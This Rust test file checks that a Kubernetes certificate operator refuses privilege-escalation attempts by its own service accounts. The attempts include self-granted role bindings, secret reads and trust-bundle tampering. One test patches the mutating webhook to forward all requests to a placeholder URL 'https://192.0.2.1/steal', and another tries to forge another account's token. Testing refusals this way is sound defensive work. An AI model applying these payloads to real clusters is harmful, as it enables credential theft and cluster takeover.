//! Attacks, each with exactly the rights that it is said to need, and the legitimate use beside it.

use serde_json::{Value, json};

use super::scene::{
    Account::{self, Approve, ClusterAdmin, Editor, NamespaceAdmin, Sign},
    CSRS, Call, RBAC, Scene, reader_binding, reader_role, request, secret, send, trust_binding, trust_bundle,
};

async fn refused(scene: &Scene, account: Account, what: &str, call: Call) {
    match scene.call(account, call).await {
        Ok(_) => panic!("{what}: not refused"),
        Err(error) => assert!(error.starts_with("403") || error.starts_with("422"), "{what}: {error}"),
    }
}

async fn works(scene: &Scene, account: Account, what: &str, call: Call) -> Value {
    scene.call(account, call).await.unwrap_or_else(|e| panic!("{what}: {e}"))
}

/// 1: a binding for itself, then every right that it gives.
pub async fn stolen_approver(scene: &Scene) {
    let itself = json!([{"kind": "ServiceAccount", "name": "etcd-tls-approve", "namespace": "etcd-tls-system"}]);
    let of = |namespace: &str| format!("{RBAC}/namespaces/{namespace}/rolebindings/etcd-tls-sign");
    for namespace in ["kube-system", "default", "etcd-tls-system", "prod"] {
        refused(scene, Approve, namespace, Call::apply(of(namespace), trust_binding(namespace, itself.clone()))).await;
        let config_map = Call::merge(
            format!("/api/v1/namespaces/{namespace}/configmaps/kube-root-ca.crt"),
            json!({"data": {"a": "b"}}),
        );
        refused(scene, Approve, namespace, config_map).await;
    }
    // A Role with more than `approve` has itself, and who would get it.
    for namespace in ["kube-system", "default", "etcd-tls-system", "prod"] {
        let secrets = json!([{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get", "list", "watch"]}]);
        let mut role = reader_role(namespace, &["etcd-tls-trust-etcd"]);
        role["rules"] = secrets;
        let roles = format!("{RBAC}/namespaces/{namespace}/roles/etcd-tls-trust-reader");
        refused(scene, Approve, namespace, Call::apply(roles, role)).await;
        let bindings = format!("{RBAC}/namespaces/{namespace}/rolebindings/etcd-tls-trust-reader");
        refused(scene, Approve, namespace, Call::apply(bindings, reader_binding(namespace, itself.clone()))).await;
        refused(scene, Approve, namespace, Call::get(format!("/api/v1/namespaces/{namespace}/secrets"))).await;
    }
    refused(scene, Approve, "sign's own binding", Call::delete(of("etcd-tls-system"))).await;
    let binding = scene.admin(Call::get(of("etcd-tls-system"))).await;
    assert_eq!(binding["roleRef"]["kind"], "Role");
    // An administrator lets trust of hosts be published in kube-system, for `sign` alone.
    let subject = super::scene::sign_subject();
    let hosts = Call::apply(of("kube-system"), trust_binding("kube-system", subject.clone()));
    refused(scene, Approve, "kube-system without the label", hosts.clone()).await;
    let label = |value: Value| {
        Call::merge("/api/v1/namespaces/kube-system", json!({"metadata": {"labels": {"etcd-tls.dev/hosts": value}}}))
    };
    scene.admin(label("true".into())).await;
    tests::eventually("kube-system with the label", super::scene::LIMIT, || scene.call(Approve, hosts.clone())).await;
    refused(scene, Approve, "for itself", Call::apply(of("kube-system"), trust_binding("kube-system", itself))).await;
    scene.admin(label(Value::Null)).await;
    works(scene, Approve, "it is taken back", Call::delete(of("kube-system"))).await;
}

/// 2, on requests that are there: nobody but an administrator makes one large, or holds it.
pub async fn requests_that_grow(scene: &Scene) {
    let role = json!({"metadata": {"name": "requests"}, "rules": [{
        "apiGroups": ["certificates.k8s.io"], "verbs": ["*"],
        "resources": ["certificatesigningrequests", "certificatesigningrequests/status", "certificatesigningrequests/approval"],
    }]});
    scene.admin(Call::post(format!("{RBAC}/clusterroles"), role)).await;
    let binding = json!({"metadata": {"name": "requests"}, "subjects": [{"kind": "User", "name": "emil", "apiGroup": "rbac.authorization.k8s.io"}],
        "roleRef": {"kind": "ClusterRole", "name": "requests", "apiGroup": "rbac.authorization.k8s.io"}});
    scene.admin(Call::post(format!("{RBAC}/clusterrolebindings"), binding)).await;
    let one = format!("{CSRS}/{}", scene.csr("0"));
    tests::eventually("the right", super::scene::LIMIT, || scene.call(Editor, Call::get(&one))).await;
    let many: serde_json::Map<String, Value> =
        (0..200).map(|i| (format!("f:{}{i}", "x".repeat(100)), json!({}))).collect();
    let managed = json!([{"manager": "x", "operation": "Apply", "apiVersion": "certificates.k8s.io/v1", "fieldsType": "FieldsV1",
        "time": "2026-01-01T00:00:00Z", "fieldsV1": {"f:metadata": {"f:annotations": many}}}]);
    for (what, metadata) in [
        ("an annotation", json!({"annotations": {"a": "x".repeat(2000)}})),
        ("a finalizer", json!({"finalizers": ["example.com/f"]})),
        ("an owner", json!({"ownerReferences": [{"apiVersion": "v1", "kind": "Node", "name": "n", "uid": "u"}]})),
        ("what is loaded", json!({"annotations": {"etcd-tls.dev/trusts": "0".repeat(32)}})),
        ("managedFields", json!({"managedFields": managed})),
        ("a name to make one of", json!({"generateName": "x".repeat(3000)})),
    ] {
        for path in [one.clone(), format!("{one}/status")] {
            let call = Call::merge(path, json!({"metadata": metadata}));
            match scene.call(Editor, call).await {
                Err(error) => assert!(error.contains("etcd-tls"), "{what}: {error}"),
                // A subresource does not take managedFields.
                Ok(after) => assert!(after["metadata"].to_string().len() < 3000, "{what}: {after}"),
            }
        }
    }
    // A request for our signers is a pod's or a host's, for every creator.
    let early = Call::post(
        CSRS,
        request("etcd-tls-6cc1c6c0-0000-0000-0000-000000000000-peer-0", "peer.etcd-tls.dev/prod.etcd"),
    );
    refused(scene, Editor, "under a pod's uid", early).await;
    let mut fat = request("emils", "peer.etcd-tls.dev/prod.etcd");
    fat["metadata"]["annotations"] = json!({"a": "x".repeat(200_000)});
    refused(scene, Editor, "a large request of ours", Call::post(CSRS, fat.clone())).await;
    fat["spec"]["signerName"] = "example.com/other".into();
    works(scene, Editor, "a large request of another signer", Call::post(CSRS, fat).dry()).await;
    works(scene, Editor, "a small label", Call::merge(&one, json!({"metadata": {"labels": {"team": "a"}}})).dry())
        .await;
    works(
        scene,
        ClusterAdmin,
        "an administrator's annotation",
        Call::merge(&one, json!({"metadata": {"annotations": {"a": "x".repeat(2000)}}})).dry(),
    )
    .await;
}

/// 4: rights to ConfigMaps alone.
pub async fn trust_by_config_map_rights(scene: &Scene) {
    let all = "/api/v1/namespaces/prod/configmaps";
    let one = format!("{all}/etcd-tls-trust-etcd");
    let merge = |body: Value| Call::merge(&one, body);
    let replaced = trust_bundle("etcd-tls-trust-etcd");
    let long = format!("f:{}", "k".repeat(200_000));
    let fields = json!([{"manager": "m", "operation": "Apply", "apiVersion": "v1", "fieldsType": "FieldsV1", "fieldsV1": {"f:data": {long: {}}}}]);
    let mut immutable = replaced.clone();
    immutable["immutable"] = true.into();
    for (what, call) in [
        ("a CA", merge(json!({"data": {"peer.crt": "mine"}}))),
        ("another key", merge(json!({"data": {"x": "x"}}))),
        ("binaryData", merge(json!({"binaryData": {"peer.crl": "AAAA"}}))),
        ("immutable", merge(json!({"immutable": true}))),
        ("replace", Call::put(&one, immutable)),
        (
            "apply",
            Call::apply(
                &one,
                json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "etcd-tls-trust-etcd"}, "data": {"x": "x"}}),
            ),
        ),
        ("a finalizer", merge(json!({"metadata": {"finalizers": ["example.com/f"]}}))),
        (
            "an owner",
            merge(
                json!({"metadata": {"ownerReferences": [{"apiVersion": "v1", "kind": "Pod", "name": "p", "uid": "u"}]}}),
            ),
        ),
        ("no label", merge(json!({"metadata": {"labels": {"app.kubernetes.io/managed-by": "me"}}}))),
        ("a rollover", merge(json!({"metadata": {"annotations": {"etcd-tls.dev/rollover-peer-request": "start 1"}}}))),
        ("a revocation", merge(json!({"metadata": {"annotations": {"etcd-tls.dev/revoke-peer-request": "x"}}}))),
        ("any annotation", merge(json!({"metadata": {"annotations": {"a": "b"}}}))),
        ("managedFields", merge(json!({"metadata": {"managedFields": fields}}))),
        ("delete", Call::delete(&one)),
        ("delete in the foreground", Call { body: json!({"propagationPolicy": "Foreground"}), ..Call::delete(&one) }),
        ("delete all", Call::delete(all)),
        ("another cluster's", Call::post(all, trust_bundle("etcd-tls-trust-events"))),
        ("another namespace's", Call::post(all, trust_bundle("etcd-tls-trust-web.etcd"))),
        ("a generated name", Call::post(all, json!({"metadata": {"generateName": "etcd-tls-trust-"}}))),
    ] {
        refused(scene, Editor, what, call).await;
    }
    let bundle = scene.admin(Call::get(&one)).await;
    assert_eq!(bundle["data"], json!({"peer.crt": "bundle"}));
    works(
        scene,
        Editor,
        "another ConfigMap",
        Call::post(all, json!({"metadata": {"name": "mine"}, "data": {"a": "1"}})),
    )
    .await;
    works(scene, Editor, "another ConfigMap", Call::delete(format!("{all}/mine"))).await;
    // Repair by hand: with the marker right, and as an administrator.
    for account in [NamespaceAdmin, ClusterAdmin] {
        works(
            scene,
            account,
            "a command",
            merge(json!({"metadata": {"annotations": {"etcd-tls.dev/rollover-peer-request": "start 2"}}})),
        )
        .await;
        works(scene, account, "repair", merge(json!({"data": {"peer.crt": "bundle"}}))).await;
        works(scene, account, "delete", Call::delete(&one)).await;
        works(scene, account, "create", Call::post(all, replaced.clone())).await;
    }
    works(scene, Sign, "sign goes on", merge(json!({"data": {"peer.crt": "next"}}))).await;
}

/// 5: the signer's token.
pub async fn stolen_signer(scene: &Scene) {
    let everything = json!([{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*/*"]}]);
    let one = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/etcd-tls";
    let strategic = json!({"webhooks": [{"name": "pod.etcd-tls.dev", "rules": everything,
        "clientConfig": {"service": null, "url": "https://192.0.2.1/steal", "caBundle": null}}]});
    for content in ["application/strategic-merge-patch+json", "application/merge-patch+json"] {
        refused(
            scene,
            Sign,
            "to itself",
            Call { method: "PATCH", path: one.to_owned(), content, body: strategic.clone() },
        )
        .await;
    }
    let secrets = "/api/v1/namespaces/etcd-tls-system/secrets";
    let mut token = secret("etcd-tls-admit-ca2", "kubernetes.io/service-account-token");
    token["metadata"]["annotations"] = json!({"kubernetes.io/service-account.name": "etcd-tls-approve"});
    refused(scene, Sign, "a token of approve", Call::post(secrets, token)).await;
}

/// A pod keeps the settings with which it was admitted.
pub async fn a_client_becomes_a_member(scene: &Scene) {
    let one = "/api/v1/namespaces/prod/pods/etcd-0";
    let annotation = |key: &str, value: Value| json!({"metadata": {"annotations": {key: value}}});
    let label = |key: &str, value: Value| json!({"metadata": {"labels": {key: value}}});
    for account in [Editor, NamespaceAdmin, ClusterAdmin] {
        for (what, body) in [
            ("a member", annotation("etcd-tls.dev/roles", "peer,server".into())),
            ("by default a member", annotation("etcd-tls.dev/roles", Value::Null)),
            ("another cluster", annotation("etcd-tls.dev/cluster", "other".into())),
            ("another user", annotation("etcd-tls.dev/user", "root".into())),
            ("opted in", label("etcd-tls", "dynamic".into())),
            ("never injected", label("etcd-tls.dev/injected", Value::Null)),
        ] {
            for path in [one.to_owned(), format!("{one}/status")] {
                refused(scene, account, what, Call::merge(path, body.clone())).await;
            }
        }
        works(scene, account, "renew", Call::merge(one, annotation("etcd-tls.dev/renew", "1".into()))).await;
        works(scene, account, "renew again", Call::merge(one, annotation("etcd-tls.dev/renew", Value::Null))).await;
        works(
            scene,
            account,
            "what is not ours",
            Call::merge(one, json!({"metadata": {"annotations": {"other": "y"}, "labels": {"a": "b"}}})),
        )
        .await;
        works(scene, account, "status", Call::merge(format!("{one}/status"), json!({"status": {"phase": "Running"}})))
            .await;
    }
    // A scheduler's Binding brings annotations.
    let pending = json!({"metadata": {"name": "pending"}, "spec": {"containers": [{"name": "c", "image": "c"}]}});
    scene.admin(Call::post("/api/v1/namespaces/prod/pods", pending)).await;
    let binding = |annotations: Value| {
        json!({"metadata": {"name": "pending", "annotations": annotations},
        "target": {"apiVersion": "v1", "kind": "Node", "name": "node-1"}})
    };
    let path = "/api/v1/namespaces/prod/pods/pending/binding";
    refused(scene, ClusterAdmin, "by a Binding", Call::post(path, binding(json!({"etcd-tls.dev/roles": "peer"}))))
        .await;
    works(scene, ClusterAdmin, "a Binding", Call::post(path, binding(json!({"other": "x"})))).await;
}

/// The calls of requesters and of our own processes are in priority levels of their own.
pub async fn flows(scene: &Scene) {
    let level = async |name: &str| {
        let found = scene
            .admin(Call::get(format!("/apis/flowcontrol.apiserver.k8s.io/v1/prioritylevelconfigurations/{name}")))
            .await;
        found["metadata"]["uid"].as_str().expect("a uid").to_owned()
    };
    let (requesters, controllers) = (level("etcd-tls-requesters").await, level("etcd-tls-controllers").await);
    let looks = level("etcd-tls-looks").await;
    let of = async |account: Account, call: Call| {
        let (headers, _) =
            send(scene.client(account), call.clone()).await.unwrap_or_else(|e| panic!("{}: {e}", call.path));
        headers.get("x-kubernetes-pf-prioritylevel-uid").expect("a priority level").to_str().expect("text").to_owned()
    };
    let create = Call::post(CSRS, scene.request("flow")).dry();
    tests::eventually("the flow of a request", super::scene::LIMIT, || async {
        let seen = of(Account::Pod, create.clone()).await;
        if seen == requesters { Ok(()) } else { Err(seen) }
    })
    .await;
    assert_eq!(of(Account::Pod, Call::get(format!("{CSRS}/{}", scene.csr("0")))).await, looks);
    for account in [Approve, Sign] {
        assert_eq!(of(account, Call::get(format!("{CSRS}/{}", scene.csr("0")))).await, controllers, "{account:?}");
        assert_eq!(of(account, Call::get("/api/v1/pods?limit=1")).await, controllers, "{account:?}");
    }
    let others = of(Editor, Call::get("/api/v1/namespaces/prod/configmaps/app")).await;
    assert!(others != requesters && others != looks && others != controllers);
    // As computed: see flow.yaml.
    let metrics = scene.metrics().await;
    let limit = |level: &str, metric: &str| {
        let start = format!("{metric}{{priority_level=\"{level}\"}} ");
        let line = metrics.lines().find_map(|line| line.strip_prefix(&start)).unwrap_or_else(|| panic!("no {start}"));
        line.parse::<f64>().expect("a number")
    };
    for level in ["etcd-tls-requesters", "etcd-tls-looks"] {
        for metric in ["nominal_limit_seats", "current_limit_seats", "upper_limit_seats"] {
            assert_eq!(limit(level, &format!("apiserver_flowcontrol_{metric}")), 7.0, "{level}: {metric}");
        }
    }
}
